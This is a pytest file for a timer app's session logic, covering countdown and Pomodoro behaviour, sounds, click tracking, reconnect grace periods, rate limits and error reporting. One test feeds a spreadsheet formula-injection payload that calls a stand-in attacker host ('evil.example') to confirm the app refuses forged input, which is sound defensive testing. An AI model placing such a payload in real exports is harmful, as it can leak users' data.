"""One session's decisions without Flet or a browser: what each click does to the timer, what it
plays, what it tracks and what the screen must show; a web session's grace period, its fair share
and its errors. Fake sounds, tracker and clock; no sleeping."""

from __future__ import annotations

import asyncio
import concurrent.futures
from typing import Any

import pytest

from ui.app_session import guarded
from ui.limits import EVENT_BURST, SOUND_BURST, SUMMARY_SECONDS
from ui.preferences import Preferences
from ui.screen import COMPACT_HEIGHT, COMPACT_WIDTH, WINDOW_HEIGHT, WINDOW_WIDTH, window_properties
from ui.session import APP_TITLE, DEFAULT_TIME, Background, SessionState, TimerSession, View
from ui.startup import app_version
from ui.timer import COUNTDOWN_SECONDS, CountdownTimer
from ui.variant import AppVariant
from ui.vox import time_left_words
from ui.weapons import DEFAULT_WEAPON

SESSION_ID = "session-1"
APP_START = {"version": app_version(), "startup_ms": 1.0, "experiments": {}}
GRACE = 60.0
BACKGROUNDS = [Background("Desert Dawn", "/backgrounds/desert_dawn.png"),
               Background("High Noon", "/backgrounds/high_noon.png"),
               Background("Starry Night", "/backgrounds/starry_night.png")]


class FakeClock:
    def __init__(self) -> None:
        self.now = 500.0

    def __call__(self) -> float:
        return self.now


class FakeSounds:
    """A SoundOut that writes down what it was asked to play."""

    def __init__(self) -> None:
        self.played: list[tuple[Any, ...]] = []

    def play_effect(self, name: str) -> None:
        self.played.append(("effect", name))

    def play_shot(self, weapon: str) -> None:
        self.played.append(("shot", weapon))

    def play_deploy(self, weapon: str) -> None:
        self.played.append(("deploy", weapon))

    def play_ending(self) -> None:
        self.played.append(("ending",))

    def say(self, words: list[str]) -> None:
        self.played.append(("say", words))

    def say_countdown(self, start: int = COUNTDOWN_SECONDS) -> None:
        self.played.append(("countdown",) if start == COUNTDOWN_SECONDS else ("countdown", start))

    def set_volume(self, volume: float) -> None:
        self.played.append(("volume", volume))

    def stop_speech(self) -> None:
        self.played.append(("stop_speech",))

    def close(self) -> None:
        self.played.append(("close",))


class FakeTracker:
    def __init__(self) -> None:
        self.events: list[tuple[str, str, Any]] = []

    def track_event(self, event_type: str, component: str, metadata: Any = None,
                    session_id: str | None = None) -> bool:
        assert session_id == SESSION_ID
        self.events.append((event_type, component, metadata))
        return True


class Parts:
    def __init__(self) -> None:
        self.clock = FakeClock()
        self.sounds = FakeSounds()
        self.tracker = FakeTracker()
        self.session = TimerSession(SESSION_ID, CountdownTimer(self.clock), self.sounds, self.tracker,
                                    BACKGROUNDS, clock=self.clock, grace=GRACE)

    def advance(self, seconds: float) -> None:
        self.clock.now += seconds

    def run_ticker(self, until: float | None = None) -> list[str]:
        """What the view's ticker does, with the fake clock: tick, sleep as told, until told to stop
        (or until the clock reaches `until`). The display after every tick."""
        shown = []
        for _ in range(10_000):
            delay = self.session.tick()
            shown.append(self.session.state.display)
            if delay is None or (until is not None and self.clock.now + delay > until):
                return shown
            self.advance(delay)
        raise AssertionError("the ticker never stopped")

    def kinds(self) -> list[str]:
        return [event[0] for event in self.tracker.events]


@pytest.fixture
def parts() -> Parts:
    return Parts()


def test_a_new_session_shows_the_default_time_weapon_and_first_background(parts: Parts) -> None:
    assert parts.session.state == SessionState(
        display=DEFAULT_TIME, time_input=DEFAULT_TIME, input_error=None, paused=False, can_pause=False,
        background=BACKGROUNDS[0], weapon=DEFAULT_WEAPON, view=View.TIMER, alert=False, title=APP_TITLE)
    parts.session.open(startup_ms=1.0)
    assert parts.tracker.events == [("app_start", "application", APP_START)]
    assert parts.session.tick() is None  # an idle timer is never due


def test_start_runs_the_typed_time_and_shows_it_as_hms(parts: Parts) -> None:
    assert parts.session.start("1:30") is True
    state = parts.session.state
    assert (state.display, state.time_input, state.input_error) == ("00:01:30", "00:01:30", None)
    assert (state.paused, state.can_pause) == (False, True)
    assert parts.sounds.played == [("stop_speech",), ("effect", "start")]
    assert parts.tracker.events == [("button_click", "start_button", {"time_input": "00:01:30"})]


def test_start_with_bad_input_is_refused_shown_and_tracked(parts: Parts) -> None:
    assert parts.session.start("12:75") is False
    state = parts.session.state
    assert state.input_error == "Seconds must be below 60."
    assert (state.display, state.time_input, state.can_pause) == (DEFAULT_TIME, "12:75", False)
    assert parts.sounds.played == []
    assert parts.tracker.events == [("input_error", "time_input", {"message": "Seconds must be below 60."})]
    assert parts.session.tick() is None  # nothing runs

    assert parts.session.start("45") is True  # fixed: the message goes
    assert parts.session.state.input_error is None


def test_typing_validates_and_an_idle_timer_previews_the_time(parts: Parts) -> None:
    parts.session.edit_time("90")
    assert (parts.session.state.display, parts.session.state.input_error) == ("00:01:30", None)
    parts.session.edit_time("1:2:3:4")
    assert parts.session.state.input_error is not None
    assert parts.session.state.display == "00:01:30"  # the last good preview stays
    parts.session.start("10")
    parts.session.edit_time("5:00")  # a running timer keeps showing its own time
    assert (parts.session.state.display, parts.session.state.time_input) == ("00:00:10", "5:00")
    assert parts.tracker.events == [("button_click", "start_button", {"time_input": "00:00:10"})]


def test_pause_freezes_the_time_and_resume_carries_on(parts: Parts) -> None:
    parts.session.start("60")
    parts.advance(10.5)
    parts.session.tick()
    parts.session.toggle_pause()
    assert (parts.session.state.paused, parts.session.state.can_pause) == (True, True)
    assert parts.session.tick() is None  # a paused timer is never due
    parts.advance(100)
    parts.session.toggle_pause()
    assert parts.session.state.paused is False
    parts.advance(0.5)
    parts.session.tick()
    assert parts.session.state.display == "00:00:49"  # the 100 s paused did not count
    assert parts.tracker.events[1:] == [("button_click", "pause_button", {"is_paused": True}),
                                        ("button_click", "pause_button", {"is_paused": False})]
    assert parts.sounds.played[2:] == [("stop_speech",), ("effect", "pause"), ("effect", "pause")]


def test_pause_does_nothing_unless_running_or_paused(parts: Parts) -> None:
    parts.session.toggle_pause()
    parts.session.start("2")
    parts.advance(3)
    parts.session.toggle_pause()  # a click racing the finish
    assert parts.tracker.events == [("button_click", "start_button", {"time_input": "00:00:02"})]
    assert parts.session.state.can_pause is False


def test_reset_stops_and_previews_the_typed_time(parts: Parts) -> None:
    parts.session.start("60")
    parts.advance(5)
    parts.session.tick()
    parts.session.reset("60")
    state = parts.session.state
    assert (state.display, state.paused, state.can_pause) == ("00:01:00", False, False)
    assert parts.session.tick() is None
    assert parts.session.state.display == "00:01:00"  # the idle timer's 0 is never shown
    parts.session.reset("nonsense")
    assert parts.session.state.display == "00:00:00"
    assert parts.tracker.events[1:] == [("button_click", "reset_button", None)] * 2
    assert parts.sounds.played[2:4] == [("stop_speech",), ("effect", "reset")]


def test_time_left_says_and_tracks_the_time_shown(parts: Parts) -> None:
    parts.session.start("1:05:10")
    parts.advance(0.4)  # 3909.6 s left: 3910 shown, and said
    parts.session.time_left()
    assert parts.sounds.played[-2:] == [("effect", "timeleft"), ("say", time_left_words(3910))]
    assert parts.tracker.events[-1] == ("button_click", "timeleft_button", {"remaining_time": "01:05:10"})


def test_time_left_when_idle_says_time_is_up(parts: Parts) -> None:
    parts.session.time_left()
    assert parts.sounds.played == [("effect", "timeleft"), ("say", ["time", "is", "up"])]
    assert parts.tracker.events == [("button_click", "timeleft_button", {"remaining_time": "00:00:00"})]


def test_weapon_select_then_fire(parts: Parts) -> None:
    parts.session.fire()
    parts.session.select_weapon("m4a1")
    parts.session.fire()
    parts.session.select_weapon(None)  # a cleared dropdown means the default weapon
    assert parts.session.state.weapon == DEFAULT_WEAPON
    assert parts.sounds.played == [("shot", DEFAULT_WEAPON), ("deploy", "m4a1"), ("shot", "m4a1"),
                                   ("deploy", DEFAULT_WEAPON)]
    assert parts.tracker.events == [
        ("button_click", "shoot_gun_button", {"weapon": DEFAULT_WEAPON}),
        ("weapon_select", "weapon_dropdown", {"weapon": "m4a1"}),
        ("button_click", "shoot_gun_button", {"weapon": "m4a1"}),
        ("weapon_select", "weapon_dropdown", {"weapon": DEFAULT_WEAPON}),
    ]


def test_background_cycles_through_all_and_starts_over(parts: Parts) -> None:
    shown = []
    for _ in range(len(BACKGROUNDS) + 1):
        parts.session.change_background()
        shown.append(parts.session.state.background)
    assert shown == [BACKGROUNDS[1], BACKGROUNDS[2], BACKGROUNDS[0], BACKGROUNDS[1]]
    assert parts.sounds.played == [("effect", "background")] * 4
    assert parts.tracker.events == [("button_click", "change_background_button", None)] * 4


def test_no_backgrounds_still_clicks() -> None:
    tracker = FakeTracker()
    session = TimerSession(SESSION_ID, CountdownTimer(FakeClock()), FakeSounds(), tracker, [])
    session.change_background()
    assert session.state.background is None
    assert tracker.events == [("button_click", "change_background_button", None)]


def test_the_ticker_counts_down_speaks_the_countdown_and_finishes_once(parts: Parts) -> None:
    parts.session.start("8")
    parts.sounds.played.clear()
    shown = parts.run_ticker()
    assert shown == ["00:00:08", "00:00:07", "00:00:06", "00:00:05", "00:00:04", "00:00:03",
                     "00:00:02", "00:00:01", "00:00:00"]
    assert parts.sounds.played == [("countdown",), ("ending",)]
    assert parts.clock.now == pytest.approx(500.0 + 8)  # it finished on the deadline, not later
    # On the deadline exactly (the fake ticker wakes on it): nothing late, no pause.
    assert parts.tracker.events[1:] == [("timer_finished", "timer", {"duration": "00:00:08",
                                                                     "late_ms": 0.0, "pauses": 0})]
    assert (parts.session.state.paused, parts.session.state.can_pause) == (False, False)
    parts.advance(60)
    assert parts.session.tick() is None  # finished: never due again, nothing tracked again
    assert [event[0] for event in parts.tracker.events].count("timer_finished") == 1


def test_the_spoken_countdown_starts_with_its_first_number_on_the_display(parts: Parts) -> None:
    parts.session.start("20")
    parts.sounds.played.clear()
    for _ in range(100):
        delay = parts.session.tick()
        if parts.sounds.played:
            break
        assert delay is not None
        parts.advance(delay)
    assert parts.sounds.played == [("countdown",)]
    assert parts.session.state.display == f"00:00:{COUNTDOWN_SECONDS:02d}"


def test_a_late_ticker_still_finishes_once_with_the_run_length(parts: Parts) -> None:
    parts.session.start("1:00")
    parts.session.start("30")  # a second start replaces the run
    parts.advance(45)
    parts.session.tick()
    assert parts.session.state.display == "00:00:00"
    assert parts.sounds.played[-2:] == [("countdown",), ("ending",)]
    assert parts.tracker.events[-1] == ("timer_finished", "timer", {"duration": "00:00:30",
                                                                    "late_ms": 15000.0, "pauses": 0})


def test_a_reset_run_never_finishes(parts: Parts) -> None:
    parts.session.start("10")
    parts.session.reset("10")
    parts.advance(20)
    assert parts.session.tick() is None
    assert "timer_finished" not in [event[0] for event in parts.tracker.events]


def test_stats_view_is_tracked_and_the_timer_runs_behind_it(parts: Parts) -> None:
    parts.session.start("10")
    parts.session.show_stats()
    assert parts.session.state.view is View.STATS
    parts.advance(3)
    parts.session.tick()
    parts.session.show_timer()
    assert (parts.session.state.view, parts.session.state.display) == (View.TIMER, "00:00:07")
    assert parts.tracker.events[-1] == ("button_click", "stats_button", None)


def test_close_tracks_app_stop_once_and_later_calls_do_nothing(parts: Parts) -> None:
    parts.session.open(startup_ms=1.0)
    parts.session.start("10")
    parts.session.close("disconnected")
    assert parts.session.closed
    before = parts.session.state
    parts.session.close("app_exit")
    parts.session.start("20")
    parts.session.toggle_pause()
    parts.session.reset("20")
    parts.session.time_left()
    parts.session.fire()
    parts.session.select_weapon("awp")
    parts.session.change_background()
    parts.session.edit_time("30")
    parts.session.show_stats()
    assert parts.session.state == before
    parts.advance(20)
    assert parts.session.tick() is None
    assert parts.tracker.events == [("app_start", "application", APP_START),
                                    ("button_click", "start_button", {"time_input": "00:00:10"}),
                                    ("app_stop", "application", {"reason": "disconnected"})]
    assert parts.sounds.played == [("stop_speech",), ("effect", "start"), ("close",)]


# ---- the title and the end of a countdown ------------------------------------------------------

def test_the_title_shows_the_time_left_and_the_end_shows_an_alert(parts: Parts) -> None:
    parts.session.start("1:15")
    assert parts.session.state.title == f"01:15 · {APP_TITLE}"
    parts.advance(10.5)
    parts.session.tick()
    parts.session.toggle_pause()
    assert parts.session.state.title == f"01:05 · {APP_TITLE}"  # paused: still the time left
    parts.session.toggle_pause()
    parts.run_ticker()
    assert (parts.session.state.alert, parts.session.state.title) == (True, f"Time's up · {APP_TITLE}")
    parts.session.reset("1:15")
    assert (parts.session.state.alert, parts.session.state.title) == (False, APP_TITLE)
    parts.session.start("2:00:00")
    assert parts.session.state.title == f"2:00:00 · {APP_TITLE}"


def test_typing_a_new_time_clears_the_alert(parts: Parts) -> None:
    parts.session.start("1")
    parts.run_ticker()
    assert parts.session.state.alert
    parts.session.edit_time("5:00")
    assert not parts.session.state.alert and parts.session.state.display == "00:05:00"


# ---- a web session through its connections -----------------------------------------------------

def test_a_session_whose_client_stays_away_ends_when_its_grace_is_up(parts: Parts) -> None:
    parts.session.open(startup_ms=1.0)
    parts.session.start("10:00")
    parts.session.disconnected()
    parts.sounds.played.clear()
    gone = parts.clock.now
    parts.run_ticker(until=gone + GRACE - 0.5)
    assert not parts.session.closed  # the countdown went on meanwhile
    assert parts.session.state.display == "00:09:01"
    parts.run_ticker()  # the ticker is woken for the grace's end, not only for the display
    assert parts.session.closed and parts.clock.now == pytest.approx(gone + GRACE)
    assert parts.tracker.events[-1] == ("app_stop", "application",
                                        {"reason": "disconnected", "offline_seconds": GRACE})
    assert parts.kinds() == ["app_start", "button_click", "app_stop"]
    assert parts.sounds.played == [("close",)]  # nothing played to a client that was not there


def test_a_reconnect_within_the_grace_carries_on(parts: Parts) -> None:
    parts.session.start("90")
    parts.session.disconnected()
    parts.advance(2.5)
    parts.session.disconnected()  # Flet says so once per dropped socket; a second one changes nothing
    parts.advance(2.5)
    assert parts.session.reconnected()
    assert parts.tracker.events[-1] == ("app_reconnect", "application", {"offline_seconds": 5.0})
    parts.advance(GRACE)
    parts.session.tick()
    assert not parts.session.closed
    assert parts.session.state.display == "00:00:25"  # it ran on while the client was away
    parts.session.fire()
    assert parts.sounds.played[-1] == ("shot", DEFAULT_WEAPON)  # and sounds play again


def test_a_countdown_that_ends_while_away_shows_as_ended_and_finishes_once(parts: Parts) -> None:
    parts.session.start("10")
    parts.session.disconnected()
    parts.sounds.played.clear()
    parts.advance(15)
    parts.session.tick()
    assert parts.session.reconnected()
    state = parts.session.state
    assert (state.display, state.alert, state.can_pause) == ("00:00:00", True, False)
    assert parts.kinds().count("timer_finished") == 1
    assert parts.sounds.played == []  # the ending had nobody to play to


def test_a_client_back_after_the_grace_gets_no_session(parts: Parts) -> None:
    parts.session.disconnected()
    parts.advance(GRACE)
    parts.session.tick()
    assert parts.session.closed
    assert parts.session.reconnected() is False
    assert parts.kinds() == ["app_stop"]


def test_a_desktop_session_never_ends_by_itself() -> None:
    clock, tracker = FakeClock(), FakeTracker()
    session = TimerSession(SESSION_ID, CountdownTimer(clock), FakeSounds(), tracker, BACKGROUNDS,
                           clock=clock, grace=None)
    session.disconnected()
    clock.now += 10 * GRACE
    assert session.tick() is None and not session.closed


# ---- what a visitor sends ------------------------------------------------------------------------

@pytest.mark.parametrize("forged", ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "", 5, ["awp"]])
def test_a_weapon_that_is_not_ours_is_refused_counted_never_stored_or_played(parts: Parts,
                                                                              forged: Any) -> None:
    parts.session.select_weapon("awp")
    assert parts.session.select_weapon(forged) is False
    parts.session.fire()
    assert parts.session.state.weapon == "awp"
    assert parts.sounds.played == [("deploy", "awp"), ("shot", "awp")]
    parts.session.close("app_exit")
    assert parts.tracker.events == [
        ("weapon_select", "weapon_dropdown", {"weapon": "awp"}),
        ("button_click", "shoot_gun_button", {"weapon": "awp"}),
        ("session_limits", "application", {"dropped_events": 0, "dropped_sounds": 0, "refused_values": 1}),
        ("app_stop", "application", {"reason": "app_exit"}),
    ]


@pytest.mark.parametrize("typed", ["9" * 4301, "x" * 10_000, "0" * 5000])
def test_any_input_gets_the_normal_message(parts: Parts, typed: str) -> None:
    parts.session.edit_time(typed)
    assert parts.session.state.input_error
    assert parts.session.start(typed) is False
    [(event_type, component, metadata)] = parts.tracker.events
    assert (event_type, component) == ("input_error", "time_input")
    assert metadata["message"] == parts.session.state.input_error and typed[:20] not in metadata["message"]


def test_a_flood_tracks_and_plays_only_the_fair_share_and_says_so_once_a_minute(parts: Parts) -> None:
    parts.session.open(startup_ms=1.0)
    for _ in range(4500):  # 4,500 clicks in 10 s
        parts.advance(10 / 4500)
        parts.session.fire()
    shots = parts.kinds().count("button_click")
    assert shots == pytest.approx(EVENT_BURST + 10 * 20, abs=1)
    assert len(parts.sounds.played) == pytest.approx(SOUND_BURST + 10 * 10, abs=1)
    assert "session_limits" not in parts.kinds()
    delay = parts.session.tick()
    assert delay is not None and delay <= SUMMARY_SECONDS  # the ticker wakes for the summary
    parts.advance(SUMMARY_SECONDS)
    parts.session.tick()
    [summary] = [event for event in parts.tracker.events if event[0] == "session_limits"]
    assert summary[2] == {"dropped_events": 4500 - shots, "dropped_sounds": 4500 - len(parts.sounds.played),
                          "refused_values": 0}
    parts.session.close("app_exit")
    assert parts.kinds()[-1] == "app_stop"
    assert parts.kinds().count("session_limits") == 1  # nothing held back since: no second summary
    assert parts.session.held.dropped_events == 4500 - shots


def test_lifecycle_events_are_never_capped(parts: Parts) -> None:
    for _ in range(500):
        parts.session.fire()
    parts.session.start("1")
    parts.advance(2)
    parts.session.tick()
    parts.session.close("app_exit")
    kinds = parts.kinds()
    assert kinds.count("timer_finished") == 1 and kinds[-2:] == ["session_limits", "app_stop"]


# ---- errors ---------------------------------------------------------------------------------------

def run_apart(coroutine: Any) -> None:
    """Runs a coroutine on a thread of its own: a browser test's Playwright may hold this one's loop."""
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        pool.submit(asyncio.run, coroutine).result()


class FailingView:
    """What SessionView's handlers look like to `guarded`: they call failed() when they raise."""

    def __init__(self, session: TimerSession) -> None:
        self.session = session

    def failed(self, component: str, where: str, error: BaseException) -> None:
        self.session.report_error(component, where, error)

    @guarded("start_button")
    def on_start(self, e: Any) -> None:
        int("9" * 4301)  # what an unguarded handler of the issue did with a paste

    @guarded("stats_button")
    async def on_show_stats(self, e: Any) -> None:
        raise OSError("/home/owner/.local/share/hl-vox-timeleft/clickstream.sqlite3: disk I/O error")


def test_an_exception_in_a_handler_is_one_app_error_with_type_and_place_only(parts: Parts) -> None:
    view = FailingView(parts.session)
    for _ in range(100):
        view.on_start(None)  # does not raise
        run_apart(view.on_show_stats(None))
    assert parts.tracker.events == [
        ("app_error", "start_button", {"error": "ValueError", "where": "on_start"}),
        ("app_error", "stats_button", {"error": "OSError", "where": "on_show_stats"}),
    ]
    parts.advance(SUMMARY_SECONDS)
    parts.session.tick()
    parts.session.close("app_exit")
    assert parts.tracker.events[2:] == [
        ("app_error", "start_button", {"error": "ValueError", "where": "on_start", "count": 99}),
        ("app_error", "stats_button", {"error": "OSError", "where": "on_show_stats", "count": 99}),
        ("app_stop", "application", {"reason": "app_exit"}),
    ]
    assert "4301" not in str(parts.tracker.events) and "disk I/O" not in str(parts.tracker.events)


# ---- Pomodoro, sound, shortcuts, preferences, experiments --------------------------------------

def pomodoro(parts: Parts, **settings: str) -> None:
    """Pomodoro mode with the given settings typed and committed (e.g. focus="3")."""
    assert parts.session.select_mode("pomodoro")
    for name, text in settings.items():
        parts.session.edit_setting(name, text)
        parts.session.commit_setting(name)
    parts.tracker.events.clear()
    parts.sounds.played.clear()


def tracked(parts: Parts, event_type: str) -> list[Any]:
    return [metadata for kind, _, metadata in parts.tracker.events if kind == event_type]


def test_a_pomodoro_runs_focus_then_the_break_by_itself_and_waits_for_the_next_focus(parts) -> None:
    pomodoro(parts, focus="3", short_break="2")
    assert parts.session.state.counter == "Focus 1 of 4 · 0 done today"
    assert parts.session.state.display == "00:00:03"
    parts.session.start("ignored in Pomodoro")
    parts.run_ticker()
    assert tracked(parts, "phase_started") == [
        {"phase": "focus", "cycle": 1, "duration": "00:00:03", "auto": False},
        {"phase": "short_break", "cycle": 1, "duration": "00:00:02", "auto": True}]
    finished = tracked(parts, "timer_finished")
    assert [f["phase"] for f in finished] == ["focus", "short_break"]
    assert ("say", ["session", "complete", "_period", "short", "break", "_comma", "two", "seconds"]) \
        in parts.sounds.played
    assert parts.sounds.played.count(("ending",)) == 2  # the ending sound still plays
    state = parts.session.state
    assert (state.counter, state.display, state.can_pause) == (
        "Focus 2 of 4 · 1 done today", "00:00:03", False)  # auto-start focus is off: it waits


def test_auto_start_focus_on_runs_the_next_focus_too(parts) -> None:
    pomodoro(parts, focus="2", short_break="1")
    parts.session.set_auto_start("auto_start_focus", True)
    parts.session.start("")
    parts.run_ticker(until=parts.clock.now + 3.5)
    assert [m["phase"] for m in tracked(parts, "phase_started")] == ["focus", "short_break", "focus"]
    assert tracked(parts, "settings_change") == [{"setting": "auto_start_focus", "value": True}]


def test_the_fourth_focus_is_followed_by_the_long_break(parts) -> None:
    pomodoro(parts, focus="1", short_break="1", long_break="2", long_break_every="2")
    parts.session.set_auto_start("auto_start_focus", True)
    parts.session.start("")
    parts.run_ticker(until=parts.clock.now + 3.5)
    assert [(m["phase"], m["cycle"]) for m in tracked(parts, "phase_started")] == [
        ("focus", 1), ("short_break", 1), ("focus", 2), ("long_break", 2)]


def test_skip_ends_the_phase_now_and_reset_starts_the_round_again(parts) -> None:
    pomodoro(parts)
    parts.session.start("")
    parts.advance(60)
    parts.session.skip(via="keyboard")
    assert parts.tracker.events[-2:] == [
        ("button_click", "skip_button", {"phase": "focus", "via": "keyboard"}),
        ("phase_started", "timer", {"phase": "short_break", "cycle": 1, "duration": "00:05:00",
                                    "auto": True})]
    assert "0 done today" in parts.session.state.counter  # a skipped focus is not done
    parts.session.reset("")
    state = parts.session.state
    assert (state.counter, state.display, state.can_pause) == ("Focus 1 of 4 · 0 done today",
                                                               "00:25:00", False)
    parts.session.select_mode("countdown")
    parts.session.skip()  # no phases to skip in a countdown
    assert parts.tracker.events[-1] == ("mode_select", "mode_dropdown", {"mode": "countdown"})


def test_settings_take_the_time_fields_rules_and_are_tracked_once_committed(parts) -> None:
    parts.session.select_mode("pomodoro")
    parts.session.edit_setting("focus", "50:00")
    parts.session.edit_setting("short_break", "1:75")
    assert parts.session.state.cycle_errors == (None, "Seconds must be below 60.", None, None)
    parts.session.commit_setting("focus")
    parts.session.commit_setting("short_break")  # stays as typed, with its message
    parts.session.commit_setting("focus")  # nothing new: not tracked again
    state = parts.session.state
    assert state.cycle_inputs[:2] == ("00:50:00", "1:75") and state.display == "00:50:00"
    assert tracked(parts, "settings_change") == [
        {"setting": "focus_minutes", "value": 50, "duration": "00:50:00"}]
    assert parts.tracker.events[-1][1] == "focus_input"
    assert parts.session.select_mode("turbo") is False  # a forged mode is refused


def test_a_mode_change_stops_the_run_and_the_title_names_the_phase(parts) -> None:
    parts.session.start("1:00")
    parts.session.select_mode("pomodoro")
    assert parts.session.state.can_pause is False
    parts.session.start("")
    assert parts.session.state.title == f"25:00 Focus · {APP_TITLE}"
    parts.advance(15 * 60)
    parts.session.tick()
    assert parts.session.state.progress == 0.6


def test_shortcuts_track_their_buttons_events_with_via(parts) -> None:
    parts.session.start_or_pause("0:10", via="keyboard")
    parts.session.start_or_pause("0:10", via="keyboard")
    parts.session.time_left(via="keyboard")
    parts.session.fire(via="keyboard")
    parts.session.toggle_help(via="keyboard")
    assert parts.tracker.events == [
        ("button_click", "start_button", {"time_input": "00:00:10", "via": "keyboard"}),
        ("button_click", "pause_button", {"is_paused": True, "via": "keyboard"}),
        ("button_click", "timeleft_button", {"remaining_time": "00:00:10", "via": "keyboard"}),
        ("button_click", "shoot_gun_button", {"weapon": DEFAULT_WEAPON, "via": "keyboard"}),
        ("button_click", "help_button", {"via": "keyboard"})]
    assert parts.session.state.help_shown


def test_mute_and_volume_reach_the_sounds_and_the_release_is_tracked(parts) -> None:
    parts.session.set_volume(0.6, released=False)
    parts.session.set_volume(0.65, released=True)
    parts.session.toggle_mute(via="keyboard")
    parts.session.toggle_mute()
    parts.session.set_volume("loud", released=True)  # forged: refused, nothing changes
    assert [p for p in parts.sounds.played if p[0] == "volume"] == [
        ("volume", 0.6), ("volume", 0.65), ("volume", 0.0), ("volume", 0.65)]
    assert parts.tracker.events == [
        ("volume_change", "volume_slider", {"volume": 0.65}),
        ("button_click", "mute_button", {"muted": True, "via": "keyboard"}),
        ("button_click", "mute_button", {"muted": False})]


def test_pausing_inside_the_spoken_countdown_resumes_it_from_the_next_number(parts) -> None:
    parts.session.start("8")
    parts.run_ticker(until=parts.clock.now + 4.6)
    parts.advance(0.6)  # 3.4 s left: "four" is being said
    parts.session.toggle_pause()
    parts.advance(10)
    parts.session.toggle_pause()
    parts.run_ticker()
    assert [p for p in parts.sounds.played if p[0] == "countdown"] == [("countdown",), ("countdown", 3)]


def test_one_played_sound_in_twenty_is_tracked_with_its_latency(parts) -> None:
    for n in range(1, 61):
        parts.session.sound_played("shot", float(n), {"buffer_ms": 5.8})
    assert tracked(parts, "sound_played") == [
        {"sound": "shot", "latency_ms": 20.0, "buffer_ms": 5.8},
        {"sound": "shot", "latency_ms": 40.0, "buffer_ms": 5.8},
        {"sound": "shot", "latency_ms": 60.0, "buffer_ms": 5.8}]


def test_preferences_are_applied_without_tracking_and_read_back(parts) -> None:
    chosen = Preferences(mode="pomodoro", focus=3000, long_break_every=3, auto_start_breaks=False,
                         weapon="awp", background="High Noon", volume=0.4, muted=True)
    parts.session.apply_preferences(chosen)
    state = parts.session.state
    assert (state.mode, state.display, state.weapon, state.background, state.volume, state.muted) == (
        "pomodoro", "00:50:00", "awp", BACKGROUNDS[1], 0.4, True)
    assert state.cycle_inputs == ("00:50:00", "00:05:00", "00:15:00", "3")
    assert parts.tracker.events == [] and parts.sounds.played == [("volume", 0.0)]
    assert parts.session.preferences == chosen
    assert Parts().session.preferences == Preferences()  # nothing chosen yet: the defaults


def test_an_experiment_variant_changes_the_default_weapon_and_is_in_app_start() -> None:
    tracker = FakeTracker()
    session = TimerSession(SESSION_ID, CountdownTimer(FakeClock()), FakeSounds(), tracker, [],
                           variant=AppVariant(default_weapon="awp"),
                           experiments={"default_weapon": "awp_first"})
    session.open(startup_ms=3.0)
    session.fire()
    assert tracker.events[0][2]["experiments"] == {"default_weapon": "awp_first"}
    assert tracker.events[1] == ("button_click", "shoot_gun_button", {"weapon": "awp"})
    assert session.preferences.weapon == ""  # the variant's pick is no choice of the user's
    chosen = TimerSession(SESSION_ID, CountdownTimer(FakeClock()), FakeSounds(), tracker, [],
                          variant=AppVariant(default_weapon="awp"),
                          preferences=Preferences(weapon="usp"))
    assert chosen.state.weapon == "usp"  # a remembered choice wins over the variant


def test_the_desktop_window_follows_the_run_and_the_compact_mode(parts) -> None:
    window = window_properties(parts.session.state)
    assert window["progress_bar"] is None and window["always_on_top"] is False
    assert (window["width"], window["height"]) == (WINDOW_WIDTH, WINDOW_HEIGHT)
    parts.session.start("0:10")
    parts.advance(2.5)
    parts.session.tick()
    assert window_properties(parts.session.state)["progress_bar"] == 0.2  # whole percent, floored
    parts.session.toggle_compact()
    compact = window_properties(parts.session.state)
    assert compact["always_on_top"] is True and compact["progress_bar"] == 0.2
    assert (compact["width"], compact["height"]) == (compact["min_width"], compact["min_height"]) \
        == (COMPACT_WIDTH, COMPACT_HEIGHT)
    parts.advance(10)
    parts.session.tick()
    assert window_properties(parts.session.state)["progress_bar"] is None  # the run is over
    parts.session.toggle_compact()
    assert window_properties(parts.session.state)["always_on_top"] is False
